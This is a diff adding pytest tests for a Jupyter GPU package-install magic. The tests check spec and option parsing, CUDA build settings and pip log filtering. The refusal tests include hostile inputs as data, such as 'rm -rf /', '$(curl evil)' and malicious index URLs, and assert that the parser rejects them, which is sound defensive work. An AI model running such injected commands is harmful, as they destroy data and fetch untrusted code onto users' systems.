@@ -1,0 +1,129 @@
+"""What %gpu_install accepts from the user: specs and options (untrusted input)."""
+
+from __future__ import annotations
+
+import pytest
+
+from gpulab_jupyter.magics import buildenv, options, piplog
+from gpulab_jupyter.magics.spec import SpecError, is_torch_stack, parse_spec
+
+
+@pytest.mark.parametrize(
+    "text, name, arg",
+    [
+        ("six", "six", "six"),
+        ("Six==1.17.0", "six", "six==1.17.0"),
+        ("Foo_Bar[Extra]>=1,<2", "foo-bar", "foo-bar[extra]<2,>=1"),
+    ],
+)
+def test_valid_specs(text, name, arg):
+    spec = parse_spec(text)
+    assert (spec.name, spec.pip_arg) == (name, arg)
+
+
+@pytest.mark.parametrize(
+    "text, words",
+    [
+        ("--index-url=http://evil", "pip option"),
+        ("-r requirements.txt", "pip option"),
+        ("-e .", "pip option"),
+        ("six --index-url http://evil", "pip option"),
+        ("six;--extra-index-url=http://evil", "pip option"),
+        ("six\n--index-url http://evil", "control characters"),
+        ("six; python_version > '3'", "markers"),
+        ("six==1.0 && rm -rf /", "pip option"),
+        ("six==1.0 && touch /tmp/owned", "not a valid package spec"),
+        ("$(curl evil)", "not a valid package spec"),
+        ("https://evil.example/x.whl", "bare URL"),
+        ("six @ https://example.org/six.whl", "--allow-url"),
+        ("six @ ftp://example.org/six.whl", "not supported"),
+        ("./wheels/six-1.0-py3-none-any.whl", "--allow-local"),
+        ("/etc/passwd", "--allow-local"),
+        ("six @ file:///tmp/six.whl", "--allow-local"),
+    ],
+)
+def test_refused_specs(text, words):
+    with pytest.raises(SpecError, match=words):
+        parse_spec(text)
+
+
+def test_urls_and_local_files_need_explicit_permission(tmp_path):
+    spec = parse_spec("nvdiffrast @ git+https://github.com/NVlabs/nvdiffrast", allow_url=True)
+    assert spec.name == "nvdiffrast" and spec.url.startswith("git+https://")
+    wheel = tmp_path / "tiny_pure-1.0-py3-none-any.whl"
+    wheel.write_bytes(b"")
+    spec = parse_spec(str(wheel), allow_local=True)
+    assert (spec.name, spec.local) == ("tiny-pure", str(wheel))
+    with pytest.raises(SpecError, match="does not exist"):
+        parse_spec(str(tmp_path / "missing.whl"), allow_local=True)
+
+
+def test_options_of_the_magic():
+    o = options.parse("--import six --check 'import six' --jobs 3 --apt libgl1 six==1.17.0")
+    assert [s.name for s in o.specs] == ["six"]
+    assert (o.imports, o.check, o.jobs, o.apt) == (["six"], "import six", 3, ["libgl1"])
+    o = options.parse("--index-url https://download.pytorch.org/whl/cu121 --from-source six")
+    assert o.recorded_options("six") == [
+        "--index-url",
+        "https://download.pytorch.org/whl/cu121",
+        "--no-binary",
+        "six",
+    ]
+    for bad, words in [
+        ("--index-url ftp://x six", "http"),
+        ("--find-links /no/such/folder six", "does not exist"),
+        ("--import 'os; import evil' six", "module name"),
+        ("--apt 'vim; rm -rf /'", "Debian package"),
+        ("six six==1", "more than once"),
+        ("--upgrade six", "unrecognized"),
+        ("--index six", "unrecognized"),  # no abbreviations
+        ("", "at least one package"),
+        ("'six", "cannot split"),
+    ]:
+        with pytest.raises(SpecError, match=words):
+            options.parse(bad)
+
+
+def test_torch_stack_names():
+    assert all(map(is_torch_stack, ["torch", "TorchVision", "triton", "nvidia-cudnn-cu12"]))
+    assert not is_torch_stack("torchmetrics")
+
+
+def test_build_environment_from_gpus():
+    env = buildenv.arch_env(["9.0", "8.0", "9.0"])
+    assert env["TORCH_CUDA_ARCH_LIST"] == "8.0;9.0+PTX"
+    assert env["FLASH_ATTN_CUDA_ARCHS"] == "80;90"
+    assert env["CMAKE_CUDA_ARCHITECTURES"] == "80-real;90-real;90-virtual"
+    assert env["FORCE_CUDA"] == "1"
+    assert buildenv.arch_env([]) == {}
+    gib = 1024**3
+    assert buildenv.max_jobs(cpus=32, memory=10 * gib) == 4  # memory-bound: 2.5 GiB a job
+    assert buildenv.max_jobs(["flash-attn"], cpus=32, memory=64 * gib) == 8
+    assert buildenv.max_jobs(cpus=2, memory=100 * gib) == 2
+    assert buildenv.max_jobs(cpus=8, memory=1 * gib) == 1
+    gpus = [buildenv.Gpu(0, "A", "8.0", uuid="GPU-aaa"), buildenv.Gpu(1, "B", "9.0", uuid="GPU-b")]
+    assert buildenv._visible(gpus, {"CUDA_VISIBLE_DEVICES": "1"}) == gpus[1:]
+    assert buildenv._visible(gpus, {"CUDA_VISIBLE_DEVICES": "GPU-b,0"}) == [gpus[1], gpus[0]]
+    assert buildenv._visible(gpus, {"CUDA_VISIBLE_DEVICES": ""}) == []
+
+
+def test_relevant_pip_lines():
+    log = [
+        "Collecting tiny",
+        "  error: subprocess-exited-with-error",
+        "  × Building wheel for tiny (pyproject.toml) did not run successfully.",
+        "  │ exit code: 1",
+        "  ╰─> [3 lines of output]",
+        '      tiny.cu(3): error: identifier "cudaFoo" is undefined',
+        "      nvcc fatal   : Unsupported gpu architecture 'compute_100'",
+        "  note: This error originates from a subprocess, and is likely not a problem with pip.",
+        "ERROR: Could not build wheels for tiny, which is required to install pyproject.toml",
+    ]
+    assert piplog.relevant(log) == [
+        'tiny.cu(3): error: identifier "cudaFoo" is undefined',
+        "nvcc fatal   : Unsupported gpu architecture 'compute_100'",
+    ]
+    assert piplog.constraint_conflicts(["    The user requested (constraint) torch==2.4.0"]) == [
+        "torch==2.4.0"
+    ]
+    assert piplog.out_of_memory(["c++: fatal error: Killed signal terminated program cc1plus"])
